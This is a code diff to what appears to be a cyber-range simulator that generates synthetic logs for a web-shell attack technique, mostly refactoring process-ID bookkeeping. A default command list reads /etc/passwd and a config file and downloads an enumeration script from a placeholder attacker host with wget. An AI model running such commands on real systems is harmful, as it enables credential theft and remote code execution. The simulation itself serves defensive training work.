@@ -35,7 +35,7 @@ from pydantic import Field, field_validator
 
 from attack_scripts import _http, _linux
 from range.core import Strict, derive
-from range.traffic import HostLog, StepContext, TcpSession, Technique, technique
+from range.traffic import StepContext, TcpSession, Technique, technique
 
 DEFAULT_COMMANDS = ["whoami", "id", "uname -a", "pwd", "ls -la", "cat /etc/passwd", "cat ../config.php", "ps aux",
                     "ss -tlnp", "wget http://{attacker}:8000/lse.sh -O /tmp/lse.sh", "ls -la /tmp"]
@@ -114,22 +114,19 @@ class _Box:
         ]
         net = ctx.layout.network_of(self.host.ip)
         self.prefix = ctx.layout.subnets[net].prefixlen if net else 24
-        self.pids = sorted(r.sample(range(300, 2000), 12))
+        # the pid of ``ps aux`` (its ``sh -c`` the one before), drawn as ever so that the step's
+        # later draws stay the same
+        self.ps_pid = max(r.sample(range(300, 2000), 12)) + 4001
         self.tmp: list[tuple[str, int, float]] = []  # files the commands saved in /tmp
 
     def shell_pids(self, commands: list[str]) -> list[int]:
         """The pid of each command's ``sh -c``: the server counts up, other processes taking some
-        in between, so that ``ps aux`` shows its own ``sh -c ps aux`` as ``p[11] + 4000``."""
+        in between, so that ``ps aux`` shows its own ``sh -c ps aux`` where it ran."""
         gaps = [len(_linux.argvs(c)) + 1 + derive("pid-gap", self.ctx.layout.team, self.ctx.layout.seed,
                                                   self.ctx.step_id, i) % 7 for i, c in enumerate(commands)]
         anchor = next((i for i, c in enumerate(commands) if c.startswith("ps")), 0)
-        first = self.pids[11] + 4000 - sum(gaps[:anchor])
+        first = self.ps_pid - 1 - sum(gaps[:anchor])
         return [first + sum(gaps[:i]) for i in range(len(commands))]
-
-    def worker(self, i: int, cwd: str = "/var/www/html/uploads"):
-        """php-fpm's worker ``i`` (0 or 1) as a process of the host records."""
-        return HostLog.daemon(self.host.name, self.pids[4 + i], "/usr/sbin/php-fpm8.2", "php-fpm: pool www",
-                              "www-data", _linux.WWW_UID, cwd)
 
     def run(self, cmd: str, now: float, download: tuple[str, int] | None) -> tuple[str, str]:
         """(stdout, stderr) of one command."""
@@ -290,17 +287,23 @@ class _Box:
         )
 
     def ps(self, now: float) -> str:
-        p = self.pids
+        """The daemons under the pids every script gives them (:func:`attack_scripts._linux.daemon_pid`),
+        in pid order as ``ps`` lists them."""
+        lay, node = self.ctx.layout, self.host.name
+        fpm, (fpm0, fpm1) = _linux.pool_pids(lay, node, "php-fpm", _linux.PHP_FPM_WORKERS)
+        nginx, (nginx0, nginx1) = _linux.pool_pids(lay, node, "nginx")
         boot = _when(now - 86400 * 12).split(" ", 2)
         start = f"{boot[0]}{boot[1]}"
         rows = [
             ("root", 1, "0.0", "0.1", 167744, 12920, "Ss", "/sbin/init"),
-            ("root", p[0], "0.0", "0.1", 15420, 9320, "Ss", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
-            ("root", p[1], "0.0", "0.0", 6612, 2720, "Ss", "/usr/sbin/cron -f"),
-            ("mysql", p[2], "0.1", "2.6", 1361732, 104880, "Ssl", "/usr/sbin/mariadbd"),
+            ("root", _linux.daemon_pid(lay, node, "sshd"), "0.0", "0.1", 15420, 9320, "Ss",
+             "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
+            ("root", _linux.daemon_pid(lay, node, "cron"), "0.0", "0.0", 6612, 2720, "Ss", "/usr/sbin/cron -f"),
+            ("mysql", _linux.daemon_pid(lay, node, "mariadbd"), "0.1", "2.6", 1361732, 104880, "Ssl",
+             "/usr/sbin/mariadbd"),
             (
                 "root",
-                p[3],
+                fpm,
                 "0.0",
                 "0.5",
                 203348,
@@ -308,11 +311,11 @@ class _Box:
                 "Ss",
                 "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)",
             ),
-            ("www-data", p[4], "0.0", "0.3", 203940, 14196, "S", "php-fpm: pool www"),
-            ("www-data", p[5], "0.0", "0.3", 203940, 14204, "S", "php-fpm: pool www"),
+            ("www-data", fpm0, "0.0", "0.3", 203940, 14196, "S", "php-fpm: pool www"),
+            ("www-data", fpm1, "0.0", "0.3", 203940, 14204, "S", "php-fpm: pool www"),
             (
                 "root",
-                p[6],
+                nginx,
                 "0.0",
                 "0.0",
                 10376,
@@ -320,13 +323,13 @@ class _Box:
                 "Ss",
                 "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
             ),
-            ("www-data", p[7], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
-            ("www-data", p[8], "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
-            ("www-data", p[11] + 4000, "0.0", "0.0", 2580, 904, "S", "sh -c ps aux"),
-            ("www-data", p[11] + 4001, "0.0", "0.0", 11084, 4488, "R", "ps aux"),
+            ("www-data", nginx0, "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
+            ("www-data", nginx1, "0.0", "0.1", 11064, 4356, "S", "nginx: worker process"),
+            ("www-data", self.ps_pid - 1, "0.0", "0.0", 2580, 904, "S", "sh -c ps aux"),
+            ("www-data", self.ps_pid, "0.0", "0.0", 11084, 4488, "R", "ps aux"),
         ]
         out = "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\n"
-        for u, pid, cpu, mem, vsz, rss, st, cmd in rows:
+        for u, pid, cpu, mem, vsz, rss, st, cmd in sorted(rows, key=lambda row: row[1]):
             out += f"{u:<10}{pid:>6} {cpu:>4} {mem:>4} {vsz:>6} {rss:>5} ?        {st:<4} {start:<5}   0:0{pid % 10} {cmd}\n"  # noqa: E501
         return out
 
@@ -477,7 +480,8 @@ class Webshell(Technique):
         uploaded = f"/var/www/html{p.upload_dir}{shell_name}"
         commands = [c.replace("{attacker}", me.ip) for c in p.commands]
         shell_pids = box.shell_pids(commands)
-        hl.file(posted + latency * hr.uniform(0.4, 0.9), box.worker(hr.randrange(2), "/var/www/html"), uploaded)
+        hl.file(posted + latency * hr.uniform(0.4, 0.9),
+                _linux.php_worker(hl, ctx.layout, target.name, "/var/www/html"), uploaded)
 
         # the commands
         for n, cmd in enumerate(commands):
@@ -513,7 +517,8 @@ class Webshell(Technique):
                 latency = (_end_of(fetch) - sent) + r.uniform(0.002, 0.01)
             # on the server: PHP's /bin/sh -c, and the command's processes under it
             pids = iter(range(shell_pids[n], shell_pids[n] + 256))  # the shell's, then its commands'
-            sh, kids = _linux.sh_c(hl, sent + 0.001 + hr.uniform(0, 0.0008), box.worker(hr.randrange(2)),
+            sh, kids = _linux.sh_c(hl, sent + 0.001 + hr.uniform(0, 0.0008),
+                                   _linux.php_worker(hl, ctx.layout, target.name, "/var/www/html/uploads"),
                                    cmd + " 2>&1" if p.shell == "plain" else cmd, pids=pids)
             if dl is not None:
                 fetcher = next((k for k in kids if k.image.endswith(("/wget", "/curl"))), sh)
